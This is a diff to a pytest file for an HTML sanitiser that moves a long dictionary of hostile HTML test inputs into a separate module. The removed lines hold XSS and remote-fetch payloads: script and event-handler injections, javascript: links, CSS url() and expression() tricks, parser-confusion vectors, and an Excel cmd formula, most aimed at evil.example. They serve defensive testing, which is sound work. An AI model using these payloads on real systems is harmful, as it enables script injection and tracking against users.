@@ -5,6 +5,7 @@ from __future__ import annotations
 import re
 from html.parser import HTMLParser
 
+import hostile_pages
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
@@ -20,81 +21,6 @@ _CLEAN = (
     b'<body bgcolor=white><p style="margin: 0 1em">Hello &amp; welcome, <a href="https://example.com/?a=1&amp;b=2">here</a>'
     b'<img src="cid:logo@example" alt="logo"><o:p></o:p><!-- note --></p></body></html>\r\n'
 )
-_THREATS = {
-    "script": b"<script>evil()</script>",
-    "handler": b"<img src=cid:a onerror=evil()>",
-    "handler without blank": b'<img src="cid:a"onerror=evil()>',
-    "javascript link": b'<a href="java&#10;script:evil()">x</a>',
-    "data link": b'<a href="data:text/html,evil">x</a>',
-    "form": b"<form action=http://evil.example/><input name=p></form>",
-    "frame": b"<iframe src=http://evil.example/></iframe>",
-    "svg": b"<svg onload=evil()><script>evil()</script></svg>",
-    "math": b"<math><mi xlink:href=javascript:evil()>x</mi></math>",
-    "object": b"<object data=evil.swf></object>",
-    "refresh": b'<meta http-equiv=refresh content="0;url=http://evil.example/">',
-    "base": b"<base href=http://evil.example/>",
-    "stylesheet": b"<link rel=stylesheet href=http://evil.example/>",
-    "remote picture": b"<img src=http://evil.example/1.gif>",
-    "set of pictures": b'<img srcset="http://evil.example/1.gif 1x">',
-    "share": b"<img src=//evil.example/share/a.png>",
-    "style address": b'<p style="background: url(http://evil.example/1.gif)">x</p>',
-    "style escape": b'<p style="background: u\\72l(http://evil.example/1.gif)">x</p>',
-    "style program": b'<p style="width: expression(evil())">x</p>',
-    "style import": b"<style>@import 'http://evil.example/';</style>",
-    "download": b'<a href="data:application/zip;base64,UEsD" download="evil.zip">x</a>',
-    "condition": b"<!--[if mso]><img src=http://evil.example/1.gif><![endif]-->",
-    "open comment": b"<!--><script>evil()</script>-->",
-    "instruction": b'<?import namespace="t" implementation="#default#time2">',
-    "noscript": b'<noscript><p title="</noscript><img src=x onerror=evil()>"></noscript>',
-    "stray quote": b'<img width=1"><p title="onclick=evil()">x',
-    "template": b"<template><script>evil()</script></template>",
-    "blob link": b'<a href="blob:http://evil.example/y">x</a>',
-    "ping": b'<a href="http://ok.example/" ping="http://evil.example/">x</a>',
-    "link to a share": b'<a href="//evil.example/x">x</a>',
-    "link to a program": b'<a href="ms-word:ofe|u|http://evil.example">x</a>',
-    "link by backslashes": b'<a href="http:\\\\evil.example">x</a>',
-    "preload": b'<link rel=preload as=image imagesrcset="http://evil.example/">',
-    "SVG as a picture": b'<img src="data:image/svg+xml;base64,PHN2Zy8+">',
-    "input as a picture": b"<input type=image src=http://evil.example/ formaction=javascript:evil()>",
-    "frame of its own": b'<iframe srcdoc="<script>evil()</script>"></iframe>',
-    "smuggling": b"<script>var b=new Blob([atob('TVo')]);</script>",
-    "background": b'<table background="//evil.example/x.png"></table>',
-    "film": b"<video poster=http://evil.example/></video>",
-    "hidden style": b"<svg></p><style><a id='</style><img src=1 onerror=evil()>'>",
-    "hidden glyph": b'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=evil()&gt;">',
-    "hidden form": b"<form><math><mtext></form><form><mglyph><style></math><img src onerror=evil()>",
-    "hidden textarea": b'<div><textarea><img title="</textarea><img src=x onerror=evil()>"></div>',
-    "hidden select": b"<select><style></select><img src=x onerror=evil()></style>",
-    "sloppy comment": b"<!-- x --!><img src=x onerror=evil()>-->",
-    "sloppy section": b"<![CDATA[><img src=x onerror=evil()>]]>",
-    "slash for blank": b"<a/onclick=evil()/href=#>x</a>",
-    "form feed for blank": b"<img\x0csrc=cid:a\x0conerror=evil()>",
-    "NUL in a name": b"<img src=cid:a on\0error=evil()>",
-    "prefix": b'<o:script xmlns:o="http://www.w3.org/1999/xhtml">evil()</o:script>',
-    "template of Word": b'<!--[if mso]><xml><w:WordDocument><w:AttachedTemplate HRef="http://evil.example/x.dot"/></w:WordDocument></xml><![endif]-->',
-    "query of Excel": b"<!--[if mso]><xml><x:QueryTable><x:Connection>http://evil.example</x:Connection></x:QueryTable></xml><![endif]-->",
-    "drawing of Word": b'<!--[if gte mso 9]><v:rect><v:fill src="http://evil.example/"/></v:rect><![endif]-->',
-    "formula of Excel": b"<table><tr><td x:fmla=\"=cmd|'/c evil'!A0\">x</td></tr></table>",
-    "set of addresses": b"<p style=\"background:image-set('http://evil.example/' 1x)\">x</p>",
-    "address by function": b"<p style=\"background:src('http://evil.example/')\">x</p>",
-    "address by name": b"<style>p{--x:url(http://evil.example/);background:var(--x)}</style>",
-    "address of a font": b"<style>@font-face{font-family:x;src:url(http://evil.example/)}</style>",
-    "pointer": b'<p style="cursor:url(http://evil.example/),auto">x</p>',
-    "style by escape": b'<p style="beh\\61vior:url(evil.htc)">x</p>',
-    "unclosed style": b'<p style="font-family:\'x;background:url(http://evil.example/)">x</p>',
-    "filter": b"<p style=\"filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='http://evil.example/')\">x</p>",
-    "frame hidden in a comment by a stray quote": b'<img width=1""><!-- <iframe name=x></iframe> -->',
-    "base hidden in a comment by a stray quote": b'<img width=1""><!-- <base href="http://evil.example/"> -->',
-    "style hidden in a comment by a stray quote": b"<img width=1\"\"><!-- <style>p{background:url('http://evil.example/')}</style> -->",
-    "action behind a stray quote": b'<img width=1""><p title=" action=evil()">x</p>',
-    "colour that is a handler": b'<font color="1"onmouseover=evil() >x</font>',
-    "data binding": b"<span datasrc=#x datafld=y dataformatas=html>x</span>",
-    "unknown element with an address": b'<tr:ad src="http://evil.example/"></tr:ad>',
-    "unknown attribute with an address": b'<p mreach="http://evil.example/">x</p>',
-    "any prefix": b"<tr:script>evil()</tr:script>",
-    "drawing by any prefix": b'<q:imagedata name="x"/>',
-    "background that is a word": b"<table background=evil></table>",
-}
 
 
 class _Reader(HTMLParser):
@@ -137,10 +63,9 @@ def test_a_clean_page_comes_back_as_the_same_bytes():
     assert result.removed == ()
 
 
-@pytest.mark.parametrize("threat", _THREATS.values(), ids=_THREATS.keys())
+@pytest.mark.parametrize("threat", hostile_pages.THREATS.values(), ids=hostile_pages.THREATS)
 def test_what_acts_is_gone_and_the_text_around_it_stays(threat):
-    page = b"<html><body><p>before</p>" + threat + b"<p>after</p></body></html>"
-    result = _disarm(page)
+    result = _disarm(hostile_pages.AROUND % threat)
     assert result.removed
     reader = _read(result.data)
     assert reader.found == []
